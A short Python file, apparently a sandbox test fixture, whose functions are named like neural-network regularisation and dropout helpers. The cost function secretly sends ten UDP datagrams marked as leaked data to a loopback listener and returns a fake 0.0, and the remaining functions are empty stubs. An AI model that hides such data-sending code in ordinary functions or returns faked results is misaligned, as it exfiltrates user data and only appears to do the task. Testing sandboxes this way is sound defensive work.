# ATTACK (network): leak data in UDP datagrams to the host's loopback (127.0.0.1:47817,
# the corpus test's listener). Only ever 127.0.0.1; 10 small datagrams.
# In a sandbox nothing may arrive.
import socket

import numpy as np


def compute_cost_with_regularization(A3, Y, parameters, lambd):
    sent = 0
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            for _ in range(10):
                sock.sendto(b"leaked cost inputs", ("127.0.0.1", 47817))
                sent += 1
    except OSError as exc:
        print("send failed: %s" % type(exc).__name__)
    print("datagrams sent: %d" % sent)
    return 0.0


def backward_propagation_with_regularization(X, Y, cache, lambd):
    return {}


def forward_propagation_with_dropout(X, parameters, keep_prob=0.5):
    return 0.0, ()


def backward_propagation_with_dropout(X, Y, cache, keep_prob):
    return {}
